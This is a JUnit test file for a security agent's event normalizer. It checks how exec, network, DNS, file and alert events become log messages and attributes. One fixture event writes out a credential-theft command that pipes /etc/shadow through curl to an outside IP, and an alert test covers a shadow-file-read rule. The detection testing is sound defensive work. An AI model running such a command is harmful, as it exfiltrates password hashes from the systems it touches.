package dev.vigil.detect.normalize;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.vigil.detect.event.LogEvent;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.GZIPInputStream;

import static dev.vigil.detect.normalize.Json.attr;
import static dev.vigil.detect.normalize.Json.node;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Agent lines: the first fourteen of {@code agent-events.ndjson} are real events from
 * vigil-bench's recorded {@code host-mix} trace, then the two examples of docs/events.md (a
 * container with an image and host tags) and a lost_events line; {@code agent-alert.json} is the
 * docs' open event as {@code AlertJson} writes an alert for it.
 */
class AgentEventNormalizerTest {

    private static final List<String> LINES = Json.resourceLines("agent-events.ndjson");
    private static final Path TRACE = Path.of("../vigil-bench/src/main/resources/traces/host-mix.ndjson.gz");

    private final Normalizer normalizer = new Normalizer();

    private LogEvent line(int i) {
        return normalizer.agentLine(Json.parse(LINES.get(i)));
    }

    @Test
    void anExecNamesTheProgramItsArgumentsAndTheParentThatRanIt() {
        LogEvent e = line(0);
        assertThat(e.time()).isEqualTo(1795379289412L);
        assertThat(e.host()).isEqualTo("vm");
        assertThat(e.source()).isEqualTo("vigil-agent");
        assertThat(e.status()).isEqualTo("info");
        assertThat(e.service()).isEmpty();
        assertThat(e.message()).startsWith("exec /usr/bin/curl ").contains(" by bash (pid 23622)");
        assertThat(attr(e, "evt.name")).isEqualTo("exec");
        assertThat(attr(e, "evt.category")).isEqualTo("process");
        assertThat(attr(e, "evt.kind")).isEqualTo("event");
        assertThat(node(e, "evt.outcome")).isNull();
        assertThat(attr(e, "usr.name")).isEqualTo("root");
        assertThat(attr(e, "usr.id")).isEqualTo("0");
        assertThat(attr(e, "process.file.path")).isEqualTo("/usr/bin/curl");
        assertThat(attr(e, "process.ancestors.comm")).isEqualTo("bash");
    }

    @Test
    void aRefusedConnectIsAFailureWithTheDestinationAndTheErrnoName() {
        LogEvent e = line(1);
        assertThat(attr(e, "evt.outcome")).isEqualTo("failure");
        assertThat(attr(e, "evt.category")).isEqualTo("network");
        assertThat(attr(e, "network.destination.ip")).isEqualTo("127.0.0.1");
        assertThat(node(e, "network.destination.port").asInt()).isEqualTo(18080);
        assertThat(node(e, "network.client.ip")).isNull();
        assertThat(e.message()).isEqualTo("connect to 127.0.0.1:18080 by wget (pid 23679) (failed: ECONNREFUSED)");
    }

    @Test
    void anAcceptHasThePeerAsClientAndTheLocalPortAsDestination() {
        LogEvent e = line(2);
        assertThat(attr(e, "evt.outcome")).isEqualTo("success");
        assertThat(attr(e, "network.client.ip")).isEqualTo("127.0.0.1");
        assertThat(node(e, "network.client.port").asInt()).isEqualTo(40152);
        assertThat(node(e, "network.destination.port").asInt()).isEqualTo(18080);
        assertThat(e.message()).isEqualTo("accept from 127.0.0.1:40152 on port 18080 by python3 (pid 23617)");
    }

    @Test
    void aBindToAPortIsAListenerAddress() {
        LogEvent e = line(3);
        assertThat(attr(e, "network.destination.ip")).isEqualTo("127.0.0.1");
        assertThat(node(e, "network.destination.port").asInt()).isEqualTo(18080);
        assertThat(e.message()).isEqualTo("bind 127.0.0.1:18080 by python3 (pid 23617)");
    }

    @Test
    void aDnsQueryKeepsItsDestinationAndNamesTheContainerWithoutImage() {
        LogEvent e = line(4);
        assertThat(attr(e, "network.destination.ip")).isEqualTo("127.0.0.1");
        assertThat(node(e, "network.destination.port").asInt()).isEqualTo(53);
        assertThat(attr(e, "dns.question.name")).isEqualTo("localhost");
        assertThat(node(e, "evt.outcome")).isNull();
        assertThat(e.message()).isEqualTo("dns query localhost to 127.0.0.1:53 by nslookup (pid 24263) in container cb3d27824c27");
        assertThat(e.tags()).isEmpty();
    }

    @Test
    void exitForkSignalAndFileEventsReadAsOneLine() {
        assertThat(line(5).message()).isEqualTo("exit bash (pid 23645) code 0");
        assertThat(line(7).message()).isEqualTo("fork bash (pid 23636, parent 23617)");
        assertThat(line(8).message()).isEqualTo("signal 23 to podman (pid 23632) by podman (pid 23632)");
        assertThat(line(11).message())
                .isEqualTo("rename /tmp/vigil-trace.7WpENI/blob1 -> /tmp/vigil-trace.7WpENI/dir1/blob by mv (pid 23638)");
        assertThat(line(12).message()).isEqualTo("chmod /tmp/vigil-trace.7WpENI/dir1/blob to 0640 by chmod (pid 23651)");
        assertThat(attr(line(12), "evt.category")).isEqualTo("file");
        assertThat(attr(line(9), "evt.category")).isEqualTo("credentials");
        assertThat(line(10).message()).startsWith("mount tmpfs on /proc/self/fd/6 (tmpfs) by ");
        assertThat(line(16).message()).isEqualTo("lost 17 events (4096 since the agent started)");
        assertThat(attr(line(16), "evt.category")).isEqualTo("agent");
    }

    @Test
    void aContainerWithAnImageGivesServiceTagsAndTheImageInTheMessage() {
        LogEvent exec = line(14);
        assertThat(exec.host()).isEqualTo("web-prod-3");
        assertThat(exec.service()).isEqualTo("acme/web");
        assertThat(exec.tags()).containsExactly("env:prod", "team:payments", "container_image:acme/web",
                "image_name:acme/web", "short_image:web", "image_tag:1.4.2", "container_name:web-1");
        assertThat(exec.message()).isEqualTo(
                "exec /bin/sh -c curl -s -d @- http://203.0.113.7/x < /etc/shadow by java (pid 4242) in acme/web:1.4.2");
        assertThat(attr(exec, "usr.id")).isEqualTo("1000");
        assertThat(node(exec, "usr.name")).isNull();

        LogEvent open = line(15);
        assertThat(open.message()).isEqualTo("open /etc/shadow by sh (pid 4343) in acme/web:1.4.2 (failed: EACCES)");
        assertThat(attr(open, "evt.outcome")).isEqualTo("failure");
        assertThat(attr(open, "container.image.name")).isEqualTo("acme/web");
    }

    @Test
    void aServiceTagOnTheHostWinsOverTheImageName() {
        ObjectNode in = Json.parse(LINES.get(14));
        ((ArrayNode) in.get("host").get("tags")).add("service:payments-api");
        assertThat(normalizer.agentLine(in).service()).isEqualTo("payments-api");
    }

    @Test
    void anAlertHasTheRuleSeverityAsStatusAndTheRuleIdAsAttribute() {
        LogEvent e = normalizer.agentLine(Json.parse(Json.resource("agent-alert.json")));
        assertThat(e.status()).isEqualTo("high");
        assertThat(attr(e, "evt.kind")).isEqualTo("alert");
        assertThat(attr(e, "evt.name")).isEqualTo("open");
        assertThat(attr(e, "agent.rule_id")).isEqualTo("shadow_file_read_from_shell");
        assertThat(attr(e, "agent.version")).isEqualTo("0.1.0-SNAPSHOT");
        assertThat(attr(e, "alert.rule.severity")).isEqualTo("high");
        assertThat(attr(e, "alert.rule.tactic")).isEqualTo("TA0006-credential-access");
        assertThat(attr(e, "alert.rule.technique")).isEqualTo("T1003.008");
        assertThat(e.message()).isEqualTo("A shell or a command run from a shell read a password hash database "
                + "(rule shadow_file_read_from_shell): open /etc/shadow by sh (pid 4343) in acme/web:1.4.2 (failed: EACCES)");
        assertThat(e.time()).isEqualTo(1767225600124L);
    }

    @Test
    void ipv6AddressesAreBracketedInMessagesAndUnixSocketsGetNoNetworkAttributes() {
        ObjectNode v6 = Json.parse(LINES.get(1));
        ObjectNode addr = (ObjectNode) v6.get("connect").get("addr");
        addr.put("family", 10).put("ip", "2001:db8::7").put("port", 443);
        LogEvent e = normalizer.agentLine(v6);
        assertThat(attr(e, "network.destination.ip")).isEqualTo("2001:db8::7");
        assertThat(e.message()).startsWith("connect to [2001:db8::7]:443 by wget");

        ObjectNode unix = Json.parse(LINES.get(1));
        ObjectNode u = (ObjectNode) unix.get("connect").get("addr");
        u.removeAll();
        u.put("family", 1).put("path", "/run/docker.sock").put("port", 0);
        LogEvent ue = normalizer.agentLine(unix);
        assertThat(node(ue, "network.destination.ip")).isNull();
        assertThat(ue.message()).startsWith("connect to /run/docker.sock by wget");
    }

    @Test
    void theInputIsNotModifiedAndTheAttributesAreItPlusTheNormalisedKeys() {
        ObjectNode in = Json.parse(LINES.get(2));
        String before = in.toString();
        LogEvent e = normalizer.agentLine(in);
        assertThat(in.toString()).isEqualTo(before);
        ObjectNode rest = e.attributes().deepCopy();
        rest.remove(List.of("evt", "usr", "network"));
        assertThat(rest).isEqualTo(in);

        ObjectNode dns = Json.parse(LINES.get(4));
        String dnsBefore = dns.toString();
        normalizer.agentLine(dns);
        assertThat(dns.toString()).isEqualTo(dnsBefore);
    }

    @Test
    void anUnknownEventTypeStillNormalises() {
        ObjectNode in = Json.parse(LINES.get(5));
        ((ObjectNode) in.get("event")).put("type", "io_uring_setup");
        LogEvent e = normalizer.agentLine(in);
        assertThat(attr(e, "evt.name")).isEqualTo("io_uring_setup");
        assertThat(node(e, "evt.category")).isNull();
        assertThat(e.message()).isEqualTo("io_uring_setup by bash (pid 23645)");
    }

    @Test
    void linesWithoutTypeOrTimestampAreRejectedWithTheReason() {
        assertThatThrownBy(() -> normalizer.agentLine(Json.parse("{\"v\":1,\"host\":{\"name\":\"x\"}}")))
                .isInstanceOf(NormalizeException.class).hasMessageContaining("no event.type").hasMessageContaining("v, host");
        assertThatThrownBy(() -> normalizer.agentLine(Json.parse(
                "{\"v\":1,\"event\":{\"type\":\"exec\",\"timestamp\":\"2026-01-01T00:00:00Z\"}}")))
                .isInstanceOf(NormalizeException.class).hasMessageContaining("Unix nanoseconds");
        assertThatThrownBy(() -> normalizer.agentLine(Json.parse("{}").arrayNode()))
                .isInstanceOf(NormalizeException.class).hasMessageContaining("must be a JSON object, got ARRAY");
    }

    /** Every event of the recorded trace (8,719 events, every type the sensor saw on a busy host). */
    @Test
    void everyEventOfTheRecordedTraceNormalises() throws Exception {
        Assumptions.assumeTrue(Files.exists(TRACE), "trace not found at " + TRACE.toAbsolutePath());
        int n = 0;
        try (BufferedReader r = new BufferedReader(new InputStreamReader(
                new GZIPInputStream(Files.newInputStream(TRACE)), StandardCharsets.UTF_8))) {
            for (String l = r.readLine(); l != null; l = r.readLine()) {
                ObjectNode in = Json.parse(l);
                LogEvent e = normalizer.agentLine(in);
                JsonNode event = in.get("event");
                assertThat(attr(e, "evt.name")).isEqualTo(event.get("type").asText());
                assertThat(e.time()).isEqualTo(event.get("timestamp").asLong() / 1_000_000);
                assertThat(e.message()).isNotBlank().doesNotContain("\n", "\r");
                assertThat(attr(e, "evt.category")).isNotNull();
                n++;
            }
        }
        assertThat(n).isEqualTo(8719);
    }
}
